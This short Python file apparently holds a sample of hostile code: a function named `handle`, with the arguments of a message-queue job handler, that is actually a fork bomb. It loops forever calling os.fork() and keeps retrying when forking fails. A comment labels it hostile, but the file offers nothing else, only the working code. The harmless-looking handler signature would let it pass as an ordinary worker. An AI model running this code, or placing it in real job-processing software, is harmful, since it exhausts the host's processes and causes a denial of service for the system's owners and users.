# Hostile: a fork bomb; every process it starts forks again, for ever.
import os
import time


def handle(ch, delivery, job, db, pause):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
